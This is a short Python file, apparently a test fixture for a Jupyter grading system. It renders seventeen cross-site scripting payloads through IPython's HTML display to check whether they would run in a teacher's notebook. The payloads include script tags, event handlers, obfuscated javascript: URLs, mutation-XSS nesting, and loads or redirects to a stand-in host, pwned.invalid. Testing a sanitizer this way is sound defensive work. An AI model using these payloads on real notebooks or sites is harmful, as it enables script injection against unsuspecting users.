"""Displays HTML whose scripts would run in the teacher's Jupyter."""

STOCK = "0 of 10; its script stands in the feedback"

# %% first
from IPython.display import HTML, display

for text in (
    "<script>PWNED()</script>",
    "<img src=x onerror=PWNED()>",
    "<a href='javascript:PWNED()'>click</a>",
    "<a href=' jAvAsCrIpT\n:PWNED()'>click</a>",
    "<iframe srcdoc='<script>PWNED()</script>'></iframe>",
    "<iframe src='https://pwned.invalid/PWNED'></iframe>",
    "<object data='https://pwned.invalid/PWNED'></object><embed src='//pwned.invalid/PWNED'>",
    "<form action='/nbgrader/PWNED'><input name=PWNED autofocus onfocus=PWNED()></form>",
    "<style>@import 'https://pwned.invalid/PWNED'; * { background: url(//pwned.invalid/PWNED) }</style>",
    "<p style=\"background: url('https://pwned.invalid/PWNED')\">x</p>",
    "<base href='https://pwned.invalid/PWNED/'><link rel=stylesheet href='//pwned.invalid/PWNED'>",
    "<meta http-equiv=refresh content='0;url=https://pwned.invalid/PWNED'>",
    "<img src='https://pwned.invalid/PWNED.png'><video src='//pwned.invalid/PWNED' autoplay></video>",
    "<math><mtext></math><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=PWNED()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=PWNED()>'>",
    "<details open ontoggle=PWNED()>x</details><body onload=PWNED()>",
    "<table background='https://pwned.invalid/PWNED'><tr><td>x</td></tr></table>",
):
    display(HTML(text))
